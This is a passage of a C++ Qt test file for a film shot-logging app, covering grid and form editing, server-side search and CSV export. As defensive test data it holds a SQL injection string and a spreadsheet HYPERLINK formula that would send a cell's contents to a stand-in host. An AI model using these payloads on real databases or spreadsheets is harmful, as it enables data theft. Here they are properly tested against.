// The shot grid and the details form against the real test database: what
// they show, and that every edit reaches the right row, whole, and only
// what the user changed.

#include "app/clientstate.h"
#include "db/dbworker.h"
#include "shots/clipfiles.h"
#include "shots/csvexport.h"
#include "shots/findbar.h"
#include "shots/shotreader.h"
#include "shots/shotrow.h"
#include "shots/gridwidget.h"
#include "shots/noticebar.h"
#include "shots/plaintext.h"
#include "shots/shotcelldelegate.h"
#include "shots/shotcolumns.h"
#include "shots/shotedits.h"
#include "shots/shotinfowidget.h"
#include "shots/shottablemodel.h"
#include "shots/stillframeview.h"
#include "testsupport.h"

#include <QApplication>
#include <QColor>
#include <QCompleter>
#include <QImage>
#include <QBuffer>
#include <QCheckBox>
#include <QContextMenuEvent>
#include <QHelpEvent>
#include <QDataWidgetMapper>
#include <QDesktopServices>
#include <QElapsedTimer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>
#include <QFormLayout>
#include <QHeaderView>
#include <QLabel>
#include <QLineEdit>
#include <QMenu>
#include <QMutex>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QScrollBar>
#include <QScopeGuard>
#include <QSignalSpy>
#include <QSlider>
#include <QSpinBox>
#include <QSqlDatabase>
#include <QSqlError>
#include <QSqlQuery>
#include <QSqlRecord>
#include <QStyle>
#include <QStyleOptionViewItem>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QTextEdit>
#include <QThread>
#include <QTimer>
#include <QToolTip>
#include <QVBoxLayout>

#include <csignal>
#include <functional>
#include <memory>
#include <tuple>
#include <sys/resource.h>

namespace {
const QString md5One = QStringLiteral("0123456789abcdef0123456789abcdef");
const QString sha1One = QStringLiteral("0123456789abcdef0123456789abcdef01234567");

// Catches the requests to open a file in the default player.
class UrlCatcher : public QObject
{
    Q_OBJECT
public:
    QList<QUrl> urls;
public slots:
    void openUrl(const QUrl &url) { urls << url; }
};

struct Browser
{
    QWidget *window = nullptr;
    GridWidget *grid = nullptr;
    ShotInfoWidget *info = nullptr;

    ShotTableModel *model() const { return grid->model; }
    template<typename T> T *field(const char *name) const { return info->findChild<T *>(name); }
    QModelIndex cell(int row, const char *column) const
    {
        return model()->index(row, model()->fieldIndex(QLatin1String(column)));
    }
    void click(int row, const char *column) const
    {
        const QModelIndex index = cell(row, column);
        grid->scrollTo(index);
        QTest::mouseClick(grid->viewport(), Qt::LeftButton, {}, grid->visualRect(index).center());
    }
};
} // namespace

class TestShots : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir root;
    QString startDirectory;
    QSqlDatabase other; // a second client
    Browser browser;
    int harbour = 0;
    int empty = 0;
    int elsewhere = 0;
    UrlCatcher catcher;

    // Adds a shot through the second connection; fields not given are NULL.
    // Adds a shot through the second connection; fields not given are NULL.
    int addShot(int project, const QString &filename, const QVariantMap &fields = {},
                const QString &md5 = md5One)
    {
        return TestDb::addShot(other, project, filename, fields, md5, sha1One);
    }

    // Runs the event loop until the database work of the window is done
    // (reads, saves, undos). The window never waits itself.
    bool settle(int timeoutMs = 20000)
    {
        QElapsedTimer clock;
        clock.start();
        auto busy = [this]() {
            return (browser.grid && browser.model()->isBusy()) || DbWorker::shared()->isBusy();
        };
        while (busy() && clock.elapsed() < timeoutMs)
            QTest::qWait(5);
        QTest::qWait(0); // what the last results set in motion (a form shown again)
        if (busy())
            qWarning() << "still busy: model" << (browser.grid && browser.model()->isBusy()) << "edits"
                       << (browser.grid && browser.model()->edits()->isBusy()) << "worker"
                       << DbWorker::shared()->isBusy() << DbWorker::shared()->runningWhat();
        return !busy();
    }

    // A column of a shot as the second client reads it, once the window's
    // work is done.
    QVariant stored(int id, const QString &column)
    {
        settle();
        return TestDb::shotValue(other, id, column);
    }

    void setStored(int id, const QString &column, const QVariant &value)
    {
        QVERIFY(TestDb::setShotValue(other, id, column, value));
    }

    // UPDATE statements the server has run so far (the client saves on a
    // connection of its database thread).
    int updatesRun()
    {
        settle();
        QSqlQuery query(other);
        if (!query.exec("SHOW GLOBAL STATUS LIKE 'Com_update'") || !query.next())
            return -1;
        return query.value(1).toInt();
    }

    // The recorded changes of a shot, oldest first: "column:change set".
    QStringList historyOf(int id)
    {
        settle();
        QSqlQuery query(other);
        query.prepare("SELECT column_name, change_set, old_value, new_value FROM shot_changes WHERE shot_id = ? "
                      "ORDER BY id");
        query.addBindValue(id);
        QStringList rows;
        if (!query.exec())
            return {query.lastError().text()};
        while (query.next())
            rows << QStringLiteral("%1:%2").arg(query.value(0).toString(), query.value(1).toString());
        return rows;
    }

    QList<ShotEdits::Draft> conflicts() const { return browser.model()->edits()->conflicts(); }

    // Makes a column of shots narrower than the editors know, so the server
    // refuses a value the form still takes (put back in cleanup()).
    void narrowColumn(const QString &column, int characters)
    {
        settle();
        QSqlQuery alter(other);
        QVERIFY2(alter.exec(QStringLiteral("ALTER TABLE shots MODIFY %1 VARCHAR(%2) NULL").arg(column).arg(characters)),
                 qPrintable(alter.lastError().text()));
        narrowed << column;
    }
    QStringList narrowed;

    // prepare runs on the new grid before its first rows arrive.
    Browser open(int project, const std::function<void(GridWidget *)> &prepare = {})
    {
        ClientState::instance()->projectId = project;
        Browser b;
        b.window = new QWidget;
        auto *layout = new QVBoxLayout(b.window);
        b.grid = new GridWidget(nullptr);
        if (prepare)
            prepare(b.grid);
        b.info = new ShotInfoWidget(b.window);
        b.info->setModel(b.grid->model);
        layout->addWidget(b.grid, 3);
        layout->addWidget(b.info, 2);
        b.info->follow(b.grid);
        // As the main window wires them.
        connect(b.info, &ShotInfoWidget::posterWanted, b.grid, &GridWidget::wantPoster);
        connect(b.grid, &GridWidget::posterArrived, b.info, &ShotInfoWidget::showPoster);
        b.window->resize(1000, 800);
        b.window->show();
        b.window->activateWindow();
        if (!QTest::qWaitForWindowExposed(b.window))
            qWarning() << "browser window not exposed";
        browser = b;
        // The rows come from the database thread.
        if (!settle() || !b.model()->hasColumns())
            qWarning() << "the grid's rows did not arrive";
        return b;
    }

    static void typeInto(QWidget *widget, const QString &text)
    {
        if (auto *edit = qobject_cast<QTextEdit *>(widget))
            edit->moveCursor(QTextCursor::End);
        QTest::keyClicks(widget, text);
    }

private slots:
    void initTestCase()
    {
        TAVELO_INIT_DB_TEST();
        QVERIFY(root.isValid());
        startDirectory = QDir::currentPath();
        QSqlDatabase db = TestDb::open();
        QVERIFY2(db.isOpen(), qPrintable(db.lastError().text()));
        other = TestDb::open("other");
        QVERIFY(other.isOpen());
        QDesktopServices::setUrlHandler("file", &catcher, "openUrl");
    }

    void init()
    {
        QVERIFY(TestDb::reset(other));
        harbour = TestDb::addProject(other, "Harbour", "Three days on the pier.");
        empty = TestDb::addProject(other, "Empty", QVariant());
        elsewhere = TestDb::addProject(other, "Elsewhere", QVariant());
        QDir::setCurrent(root.path());
        QDir(QStandardPaths::writableLocation(QStandardPaths::CacheLocation)).removeRecursively();
        ClientState::instance()->startDir = nullptr;
        catcher.urls.clear();
    }

    void cleanup()
    {
        settle();
        delete browser.window;
        browser = Browser();
        QSqlQuery alter(other);
        for (const QString &column : std::as_const(narrowed)) {
            const char *type = column == QLatin1String("duration") ? "VARCHAR(64)" : "VARCHAR(255)";
            if (!alter.exec(QStringLiteral("ALTER TABLE shots MODIFY %1 %2 NULL").arg(column, type)))
                qWarning() << "could not widen" << column << alter.lastError().text();
        }
        narrowed.clear();
        QDir::setCurrent(startDirectory);
    }

    void cleanupTestCase() { QDesktopServices::unsetUrlHandler("file"); }

    void showsOnlyTheChosenProjectsShots()
    {
        const int a = addShot(harbour, "raw/A/1.MTS");
        addShot(elsewhere, "raw/B/1.MTS");
        const int c = addShot(harbour, "raw/A/2.MTS");
        Browser b = open(harbour);
        QCOMPARE(b.model()->query().project, harbour);
        QCOMPARE(b.model()->rowCount(), 2);
        QCOMPARE(b.model()->data(b.cell(0, "id")).toInt(), a);
        QCOMPARE(b.model()->data(b.cell(1, "id")).toInt(), c);
        QCOMPARE(b.model()->data(b.cell(1, "project")).toInt(), harbour);
    }

    void emptyProjectShowsHeadersAndAnEmptyForm()
    {
        addShot(harbour, "raw/A/1.MTS", {{"scene", "12"}, {"prod", 1}, {"quality", 60}});
        Browser b = open(empty);
        QCOMPARE(b.model()->rowCount(), 0);
        QSqlRecord columns = QSqlDatabase::database().record("shots");
        // The table's columns, then what the sync read from the media.
        // The table's columns, the shots' quick tags, then the media facts.
        QCOMPARE(b.model()->columnCount(), columns.count() + 1 + ShotTableModel::mediaColumnNames().size());
        QCOMPARE(b.model()->columnName(columns.count()), QStringLiteral("tags"));
        for (int i = 0; i <= ShotTableModel::mediaColumnNames().size(); ++i)
            QVERIFY(b.model()->isReadOnlyColumn(columns.count() + i));
        QVERIFY(b.grid->isColumnHidden(1));
        QCOMPARE(b.model()->headerData(1, Qt::Horizontal).toString(), QStringLiteral("Project"));
        for (int column = 0; column < columns.count(); ++column) {
            // Headers in words; the column's name in the tooltip.
            QCOMPARE(b.model()->columnName(column), columns.fieldName(column));
            QCOMPARE(b.model()->headerData(column, Qt::Horizontal).toString(),
                     ShotColumns::label(columns.fieldName(column)));
            QVERIFY(b.model()->headerData(column, Qt::Horizontal, Qt::ToolTipRole).toString().contains(
                columns.fieldName(column)));
            // The layout for logging hides the project, the digests and
            // what a take-first logger does not type.
            QCOMPARE(b.grid->isColumnHidden(column),
                     QStringList({"project", "MD5", "SHA1", "prod", "duration", "quality", "related", "shottype",
                                  "descid"})
                         .contains(columns.fieldName(column)));
        }
        QCOMPARE(b.info->mapper->currentIndex(), -1);
        QCOMPARE(b.field<QLabel>("filenameLabel")->text(), QString());
        QCOMPARE(b.field<QLineEdit>("sceneEdit")->text(), QString());
        QCOMPARE(b.field<QTextEdit>("locationEdit")->toPlainText(), QString());
        QVERIFY(!b.field<QCheckBox>("prodBox")->isChecked());
        QCOMPARE(b.field<QLabel>("filenameLabel")->textFormat(), Qt::PlainText);
        auto *slider = b.field<QSlider>("qualitySlider");
        QCOMPARE(slider->value(), slider->minimum());
        QCOMPARE(b.info->frameView()->text(), QStringLiteral("No shot selected"));
    }

    // Regression: in a project without shots the form took typing and
    // silently dropped it.
    void withoutAShotTheFormIsDisabledAndSaysWhy()
    {
        Browser b = open(empty);
        auto *fields = b.info->findChild<QWidget *>("fieldsArea");
        auto *hint = b.info->findChild<QLabel *>("noShotHint");
        QVERIFY(fields && hint);
        QVERIFY(!fields->isEnabled());
        QVERIFY(hint->isVisible());
        QVERIFY(hint->text().contains("Sync Project"));
        auto *scene = b.field<QLineEdit>("sceneEdit");
        QVERIFY(!scene->isEnabled());
        QTest::keyClicks(scene, "12");
        QCOMPARE(scene->text(), QString());
        QVERIFY(!b.info->hasUnsavedChanges());

        // Once the project has a shot, Refresh brings it and the form opens.
        const int id = addShot(empty, "raw/A/1.MTS");
        b.grid->update_request();
        QVERIFY(settle());
        QCOMPARE(b.model()->rowCount(), 1);
        QVERIFY(fields->isEnabled());
        QVERIFY(!hint->isVisible());
        typeInto(scene, "12");
        QVERIFY(b.info->saveChanges());
        QCOMPARE(stored(id, "scene").toString(), QStringLiteral("12"));
    }

    // Regression: the grid edited prod with a 0-99 number box, so a yes/no
    // column could be given 7.
    void theProductionFlagIsACheckBoxInTheGrid()
    {
        const int id = addShot(harbour, "raw/A/1.MTS");
        Browser b = open(harbour);
        const QModelIndex prod = b.cell(0, "prod");
        b.grid->showColumn(prod.column()); // the layout for logging hides it
        QVERIFY(b.model()->flags(prod) & Qt::ItemIsUserCheckable);
        QVERIFY(!(b.model()->flags(prod) & Qt::ItemIsEditable));
        b.grid->edit(prod);
        QVERIFY(!b.grid->indexWidget(prod));
        QCOMPARE(b.model()->data(prod, Qt::DisplayRole), QVariant());
        // NULL is neither yes nor no.
        QCOMPARE(b.model()->data(prod, Qt::CheckStateRole).toInt(), int(Qt::PartiallyChecked));

        b.grid->setFocus();
        b.grid->setCurrentIndex(prod);
        QTest::keyClick(b.grid, Qt::Key_Space);
        QCOMPARE(stored(id, "prod").toInt(), 1);
        QCOMPARE(b.model()->data(prod, Qt::CheckStateRole).toInt(), int(Qt::Checked));
        QTest::keyClick(b.grid, Qt::Key_Space);
        QCOMPARE(stored(id, "prod").toInt(), 0);
        QCOMPARE(b.model()->data(b.cell(0, "prod"), Qt::CheckStateRole).toInt(), int(Qt::Unchecked));

        // A click on the box itself toggles it too.
        QStyleOptionViewItem option;
        option.initFrom(b.grid->viewport());
        option.rect = b.grid->visualRect(prod);
        option.features |= QStyleOptionViewItem::HasCheckIndicator;
        const QRect box = b.grid->style()->subElementRect(QStyle::SE_ItemViewItemCheckIndicator, &option, b.grid);
        QTest::mouseClick(b.grid->viewport(), Qt::LeftButton, {}, box.center());
        QCOMPARE(stored(id, "prod").toInt(), 1);
    }

    void theFindFieldNarrowsTheRowsOnTheServer_data()
    {
        QTest::addColumn<QString>("typed");
        QTest::addColumn<bool>("notYetLogged");
        QTest::addColumn<QStringList>("expected");
        const QStringList all = {"raw/A/Gull.MTS", "raw/A/2.MTS", "raw/B/3.MTS", "raw/B/4.MTS", "raw/B/5.MTS"};
        QTest::newRow("nothing typed") << "" << false << all;
        QTest::newRow("file name, any case") << "gull.mts" << false << QStringList{"raw/A/Gull.MTS"};
        QTest::newRow("notes, any case") << "DAWN" << false << QStringList{"raw/A/Gull.MTS"};
        QTest::newRow("several words, all must match")
            << "gull  pier 12" << false << QStringList{"raw/A/Gull.MTS"};
        QTest::newRow("words in different shots") << "gull windy" << false << QStringList{};
        QTest::newRow("UTF-8") << "café" << false << QStringList{"raw/A/2.MTS"};
        QTest::newRow("UTF-8, upper case") << "MÖWE" << false << QStringList{"raw/A/2.MTS"};
        QTest::newRow("a percent sign is literal") << "%" << false << QStringList{"raw/A/2.MTS"};
        QTest::newRow("an underscore is literal") << "_" << false << QStringList{};
        QTest::newRow("a quote is literal") << "it's" << false << QStringList{"raw/B/3.MTS"};
        QTest::newRow("quote and backslash cannot break out")
            << "x' OR '1'='1 \\" << false << QStringList{};
        QTest::newRow("digests are not searched") << "abcdef" << false << QStringList{};
        QTest::newRow("part of a path") << "raw/b" << false << QStringList{"raw/B/3.MTS", "raw/B/4.MTS", "raw/B/5.MTS"};
        QTest::newRow("not yet logged") << "" << true << QStringList{"raw/B/4.MTS", "raw/B/5.MTS"};
        QTest::newRow("not yet logged and a word") << "raw/b/5" << true << QStringList{"raw/B/5.MTS"};
    }

    void theFindFieldNarrowsTheRowsOnTheServer()
    {
        QFETCH(QString, typed);
        QFETCH(bool, notYetLogged);
        QFETCH(QStringList, expected);
        addShot(harbour, "raw/A/Gull.MTS", {{"location", "East pier"}, {"scene", "12"}, {"notes", "Gulls at dawn"}});
        addShot(harbour, "raw/A/2.MTS", {{"location", "Café Möwe"}, {"notes", "100% sure"}});
        addShot(harbour, "raw/B/3.MTS", {{"scene", "4"}, {"notes", "it's windy"}});
        addShot(harbour, "raw/B/4.MTS");
        addShot(harbour, "raw/B/5.MTS", {{"scene", ""}, {"notes", ""}, {"takes", "2"}});
        addShot(elsewhere, "raw/A/Gull.MTS", {{"notes", "Gulls at dawn"}});
        Browser b = open(harbour);
        QSignalSpy failures(b.model(), &ShotTableModel::saveFailed);
        b.grid->setFind(typed, notYetLogged);
        QVERIFY(settle());
        QVERIFY2(failures.isEmpty(), failures.isEmpty() ? "" : qPrintable(failures.first().first().toString()));
        QStringList shown;
        for (int row = 0; row < b.model()->rowCount(); ++row)
            shown << b.model()->data(b.cell(row, "filename")).toString();
        QCOMPARE(shown, expected);
        QCOMPARE(b.grid->projectShotCount(), 5);
        // The form follows: a shot when there is one, disabled when none is left.
        QCOMPARE(b.info->findChild<QWidget *>("fieldsArea")->isEnabled(), !expected.isEmpty());
        if (!expected.isEmpty())
            QCOMPARE(b.field<QLabel>("filenameLabel")->text(), expected.first());
    }

    void typedWordsAreBoundNeverPartOfTheStatement()
    {
        ShotQuery query;
        query.project = 7;
        query.find = "it's 50%";
        ShotLayout layout;
        const ShotReader::Statement statement = ShotReader::rowsStatement(
            "shots", query, layout, [](const QString &name) { return QStringLiteral("`%1`").arg(name); });
        QVERIFY2(!statement.text.contains("it's") && !statement.text.contains("50"), qPrintable(statement.text));
        QCOMPARE(statement.values, QVariantList({7, QStringLiteral("%it's%"), QStringLiteral("%50\\%%")}));
        ShotQuery spaces = query;
        spaces.find = "  a\tb\n c ";
        QCOMPARE(spaces.words(), QStringList({"a", "b", "c"}));
        spaces.find = "   ";
        QCOMPARE(ShotReader::rowsStatement("shots", spaces, layout, [](const QString &name) { return name; }).values,
                 QVariantList({7}));
    }

    void aShotSavedOutOfTheFilterStaysUntilTheFilterChanges()
    {
        const int id = addShot(harbour, "raw/A/1.MTS", {{"notes", "Gulls at dawn"}});
        addShot(harbour, "raw/A/2.MTS", {{"notes", "Harbour at dusk"}});
        Browser b = open(harbour);
        auto *find = new FindBar(b.window);
        connect(find, &FindBar::findChanged, b.grid, &GridWidget::setFind);
        find->focusFind();
        QTest::keyClicks(find->findChild<QLineEdit *>("findEdit"), "dawn");
        QTRY_COMPARE(b.model()->rowCount(), 1);
        QCOMPARE(b.field<QLabel>("filenameLabel")->text(), QStringLiteral("raw/A/1.MTS"));
        auto *notes = b.field<QTextEdit>("notesEdit");
        notes->selectAll();
        QTest::keyClicks(notes, "Gulls at noon");
        QVERIFY(b.info->saveChanges());
        QCOMPARE(stored(id, "notes").toString(), QStringLiteral("Gulls at noon"));
        // Still shown, with what was saved.
        QCOMPARE(b.model()->rowCount(), 1);
        QCOMPARE(b.model()->data(b.cell(0, "notes")).toString(), QStringLiteral("Gulls at noon"));
        QCOMPARE(b.model()->headerData(0, Qt::Vertical).toString(), QStringLiteral("1"));
        // Export writes the shots shown, this one included.
        const QString path = root.filePath("kept.csv");
        const Csv::Result exported = exportShownShots(b.model(), path);
        QVERIFY2(exported.ok, qPrintable(exported.error));
        QCOMPARE(exported.rows, 1);
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        QVERIFY(file.readAll().contains("Gulls at noon"));
        // Edits and Refresh go on working on the filtered rows.
        setStored(id, "notes", "Gulls at dawn again");
        b.grid->update_request();
        QVERIFY(settle());
        QCOMPARE(b.model()->rowCount(), 1);
        QCOMPARE(b.model()->data(b.cell(0, "notes")).toString(), QStringLiteral("Gulls at dawn again"));
        setStored(id, "notes", "Gulls at noon");
        b.grid->update_request();
        QVERIFY(settle());
        QCOMPARE(b.model()->rowCount(), 0);
        QCOMPARE(exportShownShots(b.model(), path).rows, 0);
        // Escape in the field clears the filter.
        QTest::keyClick(find->findChild<QLineEdit *>("findEdit"), Qt::Key_Escape);
        QCOMPARE(find->text(), QString());
        QTRY_COMPARE(b.model()->rowCount(), 2);
        QVERIFY(settle());
        QCOMPARE(b.model()->query().find, QString());
        QCOMPARE(b.field<QLabel>("filenameLabel")->text(), QStringLiteral("raw/A/1.MTS"));
    }

    // The exported file read back by an independent CSV parser.
    void exportIsReadBackByACsvParser()
    {
        addShot(harbour, "raw/A/1.MTS", {{"location", "Pier, east end"}, {"notes", "He said \"cut\"\nthen laughed"},
                                          {"prod", 1}, {"quality", 70}});
        addShot(harbour, "raw/A/2.MTS", {{"location", "Café Möwe – 北"}, {"scene", "12"}});
        addShot(harbour, "raw/A/3.MTS", {{"notes", "three"}});
        addShot(elsewhere, "raw/B/1.MTS");
        Browser b = open(harbour);
        // The shots shown, in the order shown.
        b.grid->sortByColumn(b.model()->fieldIndex("filename"), Qt::DescendingOrder);
        b.grid->setFind("raw/a", false);
        QVERIFY(settle());
        QCOMPARE(b.model()->rowCount(), 3);

        const QString path = root.filePath("export/shots.csv");
        QDir().mkpath(root.filePath("export"));
        const Csv::Result result = exportShownShots(b.model(), path);
        QVERIFY2(result.ok, qPrintable(result.error));
        QCOMPARE(result.rows, 3);

        QProcess python;
        python.start("python3", {"-c",
                                 "import csv, json, sys\n"
                                 "with open(sys.argv[1], newline='', encoding='utf-8') as f:\n"
                                 "    print(json.dumps(list(csv.reader(f, strict=True))))\n",
                                 path});
        QVERIFY(python.waitForFinished(30000));
        QCOMPARE(python.exitCode(), 0);
        const QJsonArray rows = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
        QCOMPARE(rows.size(), 4);
        const QSqlRecord columns = QSqlDatabase::database().record("shots");
        QJsonArray header;
        for (int i = 0; i < columns.count(); ++i)
            header << columns.fieldName(i);
        for (const char *media : {"tags", "recorded", "tc_in", "length", "format"})
            header << media;
        QCOMPARE(rows.at(0).toArray(), header);
        auto value = [&](int row, const char *column) {
            return rows.at(row).toArray().at(columns.indexOf(column)).toString();
        };
        // Sorted as shown: file names descending.
        QCOMPARE(value(1, "filename"), QStringLiteral("raw/A/3.MTS"));
        QCOMPARE(value(2, "filename"), QStringLiteral("raw/A/2.MTS"));
        QCOMPARE(value(3, "filename"), QStringLiteral("raw/A/1.MTS"));
        QCOMPARE(value(3, "location"), QStringLiteral("Pier, east end"));
        QCOMPARE(value(3, "notes"), QStringLiteral("He said \"cut\"\nthen laughed"));
        QCOMPARE(value(3, "prod"), QStringLiteral("1"));
        QCOMPARE(value(3, "quality"), QStringLiteral("70"));
        QCOMPARE(value(3, "MD5"), md5One);
        QCOMPARE(value(3, "SHA1"), sha1One);
        QCOMPARE(value(2, "location"), QStringLiteral("Café Möwe – 北"));
        QCOMPARE(value(2, "prod"), QString()); // NULL is an empty field
        QCOMPARE(value(2, "project"), QString::number(harbour));
        // Records end in CR LF; the line break inside a field stays as typed.
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QByteArray bytes = file.readAll();
        QVERIFY(bytes.startsWith("\"id\",\"project\",\"filename\""));
        QCOMPARE(bytes.count("\r\n"), 4);
        QVERIFY(bytes.contains("\"He said \"\"cut\"\"\nthen laughed\""));
    }

    // Notes such as =HYPERLINK("...?"&C2) ran as formulas in every crew
    // member's spreadsheet (a link sending another cell away). For
    // spreadsheets such a cell starts with an apostrophe; CSV for tools keeps
    // every value exact.
    void spreadsheetExportRunsNoCellAsAFormula_data()
    {
        QTest::addColumn<QString>("column");
        QTest::addColumn<QVariant>("stored");
        QTest::addColumn<QString>("forSpreadsheets");

        QTest::newRow("a sum") << "notes" << QVariant("=1+1") << "'=1+1";
        QTest::newRow("words after an equals sign")
            << "notes" << QVariant("=good take, use this") << "'=good take, use this";
        const QString link = QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&C2,\"Click\")");
        QTest::newRow("a link that sends another cell away") << "notes" << QVariant(link) << "'" + link;
        QTest::newRow("plus") << "notes" << QVariant("+1 stop over") << "'+1 stop over";
        QTest::newRow("minus, not a number") << "takes" << QVariant("-1+1") << "'-1+1";
        QTest::newRow("at") << "notes" << QVariant("@SUM(1+1)") << "'@SUM(1+1)";
        QTest::newRow("tab") << "takes" << QVariant("\t=1+1") << "'\t=1+1";
        QTest::newRow("carriage return") << "notes" << QVariant("\r=1+1") << "'\r=1+1";
        QTest::newRow("a number after a line break is text")
            << "notes" << QVariant("-3\n=1+1") << "'-3\n=1+1";
        // A plain number is no formula: still read as a number.
        QTest::newRow("negative whole number as text") << "takes" << QVariant("-3") << "-3";
        QTest::newRow("negative decimal as text") << "takes" << QVariant("-2.5") << "-2.5";
        QTest::newRow("negative number in a numeric column") << "quality" << QVariant(-3) << "-3";
        QTest::newRow("equals sign inside") << "notes" << QVariant("take 2 = best") << "take 2 = best";
    }

    void spreadsheetExportRunsNoCellAsAFormula()
    {
        QFETCH(QString, column);
        QFETCH(QVariant, stored);
        QFETCH(QString, forSpreadsheets);
        addShot(harbour, "raw/A/1.MTS", {{column, stored}});
        Browser b = open(harbour);
        QCOMPARE(b.model()->rowCount(), 1);

        // The cell as Python's csv module reads it from the written file.
        auto exported = [&](bool spreadsheets) -> QString {
            ShotExport snapshot = exportOfShownShots(b.model());
            snapshot.byteOrderMark = spreadsheets;
            const QString path = root.filePath(spreadsheets ? "spreadsheet.csv" : "tools.csv");
            const Csv::Result result = snapshot.write(path);
            if (!result.ok)
                return "not written: " + result.error;
            QProcess python;
            python.start("python3", {"-c",
                                     "import csv, json, sys\n"
                                     "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
                                     "    rows = list(csv.reader(f, strict=True))\n"
                                     "print(json.dumps(rows[1][rows[0].index(sys.argv[2])]))\n",
                                     path, column});
            if (!python.waitForFinished(30000) || python.exitCode() != 0)
                return "not read: " + QString::fromUtf8(python.readAllStandardError());
            return QJsonDocument::fromJson("[" + python.readAllStandardOutput() + "]").array().at(0).toString();
        };
        QCOMPARE(exported(true), forSpreadsheets);
        QCOMPARE(exported(false), stored.toString());
    }

    // A full disk in the middle of an export: nothing under the chosen name,
    // a file already there untouched, no temporary file left.
    void aFailedExportLeavesNoHalfFile()
    {
        for (int i = 0; i < 300; ++i)
            addShot(harbour, QStringLiteral("raw/A/%1.MTS").arg(i), {{"notes", QString(400, 'n')}});
        Browser b = open(harbour);
        QTemporaryDir target;
        const QString fresh = target.filePath("new.csv");
        const QString existing = target.filePath("old.csv");
        {
            QFile old(existing);
            QVERIFY(old.open(QIODevice::WriteOnly));
            old.write("kept");
        }
        // Writes beyond 64 KiB fail as on a full disk (EFBIG).
        struct rlimit before;
        QCOMPARE(getrlimit(RLIMIT_FSIZE, &before), 0);
        const auto oldHandler = signal(SIGXFSZ, SIG_IGN);
        struct rlimit small = before;
        small.rlim_cur = 64 * 1024;
        QCOMPARE(setrlimit(RLIMIT_FSIZE, &small), 0);
        const Csv::Result first = exportShownShots(b.model(), fresh);
        const Csv::Result second = exportShownShots(b.model(), existing);
        setrlimit(RLIMIT_FSIZE, &before);
        signal(SIGXFSZ, oldHandler);

        QVERIFY2(!first.ok, qPrintable(QString::number(first.rows) + " " + QString::number(QFileInfo(fresh).size())));
        QVERIFY(!second.ok);
        QVERIFY2(first.error.contains(fresh) && first.error.contains("Nothing was saved"), qPrintable(first.error));
        QVERIFY(!QFileInfo::exists(fresh));
        QFile old(existing);
        QVERIFY(old.open(QIODevice::ReadOnly));
        QCOMPARE(old.readAll(), QByteArray("kept"));
        QCOMPARE(QDir(target.path()).entryList(QDir::Files | QDir::Hidden), QStringList{"old.csv"});
        // A folder that does not exist is refused at once.
        const Csv::Result missing = exportShownShots(b.model(), target.filePath("no/such/folder/x.csv"));
        QVERIFY(!missing.ok);
        QVERIFY(!missing.error.isEmpty());
    }

    // Ctrl+D copies the field of the shot above; in Takes a number counts on.
    void dittoTakesTheShotAbove_data()
    {
        QTest::addColumn<QString>("column");
        QTest::addColumn<QVariant>("above");
        QTest::addColumn<QString>("expected");

        QTest::newRow("takes: a number counts on") << "takes" << QVariant("3") << "4";
        QTest::newRow("takes: nine gives ten") << "takes" << QVariant("9") << "10";
        QTest::newRow("takes: its width kept") << "takes" << QVariant("007") << "008";
        QTest::newRow("takes: spaces around a number") << "takes" << QVariant(" 12 ") << "13";
        QTest::newRow("takes: a range is copied") << "takes" << QVariant("3-5") << "3-5";
        QTest::newRow("takes: text is copied") << "takes" << QVariant("3 NG") << "3 NG";
        QTest::newRow("takes: a negative number is copied") << "takes" << QVariant("-3") << "-3";
        QTest::newRow("takes: nothing above stays empty") << "takes" << QVariant() << "";
        QTest::newRow("scene: a number is copied") << "scene" << QVariant("3") << "3";
        QTest::newRow("related: a number is copied") << "related" << QVariant("3") << "3";
    }

    void dittoTakesTheShotAbove()
    {
        QFETCH(QString, column);
        QFETCH(QVariant, above);
        QFETCH(QString, expected);
        addShot(harbour, "raw/A/1.MTS", {{column, above}});
        const int below = addShot(harbour, "raw/A/2.MTS");
        Browser b = open(harbour);
        b.grid->showColumn(b.model()->fieldIndex(column)); // the layout for logging may hide it
        b.click(1, qPrintable(column));
        QVERIFY(settle());
        QCOMPARE(b.info->mapper->currentIndex(), 1);
        auto *edit = qobject_cast<QLineEdit *>(b.info->widgetOfColumn(column));
        QVERIFY(edit);
        edit->setFocus();
        QTest::keyClick(edit, Qt::Key_D, Qt::ControlModifier);
        QCOMPARE(edit->text(), expected);
        QVERIFY(b.info->saveChanges());
        QCOMPARE(stored(below, column).toString(), expected);
        // The shot above keeps its value.
        QCOMPARE(b.model()->data(b.cell(0, qPrintable(column))).toString(), above.toString());
    }

    void tabWalksTheFieldsInOrder_data()
    {
        QTest::addColumn<bool>("everyColumnShown");
        QTest::addColumn<QStringList>("order");
        // The layout for logging: the fields of hidden columns take a click only.
        QTest::newRow("layout for logging")
            << false << QStringList{"locationEdit", "sceneEdit", "shotEdit", "takesEdit", "notesEdit"};
        QTest::newRow("every column, in the table's order")
            << true
            << QStringList{"locationEdit", "sceneEdit",   "shotEdit",     "prodBox",    "durationEdit",
                           "qualitySlider", "qualitySpin", "takesEdit", "relatedEdit", "shotTypeEdit",
                           "descIdEdit",   "notesEdit"};
    }

    void tabWalksTheFieldsInOrder()
    {
        QFETCH(bool, everyColumnShown);
        QFETCH(QStringList, order);
        addShot(harbour, "raw/A/1.MTS");
        Browser b = open(harbour);
        if (everyColumnShown) {
            QHeaderView *header = b.grid->horizontalHeader();
            for (int column = 0; column < b.model()->columnCount(); ++column) {
                b.grid->showColumn(column);
                header->moveSection(header->visualIndex(column), column);
            }
        }
        QTRY_COMPARE(b.info->tabChain().size(), order.size());
        b.info->focusFirstField();
        QTRY_COMPARE(QApplication::focusWidget()->objectName(), order.first());
        for (int i = 1; i < order.size(); ++i) {
            QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
            QCOMPARE(QApplication::focusWidget()->objectName(), order.at(i));
        }
        for (int i = order.size() - 2; i >= 0; --i) {
            QTest::keyClick(QApplication::focusWidget(), Qt::Key_Backtab, Qt::ShiftModifier);
            QCOMPARE(QApplication::focusWidget()->objectName(), order.at(i));
        }
        // The fields are laid out in the same order, so Tab goes down the form.
        for (int i = 1; i < order.size(); ++i) {
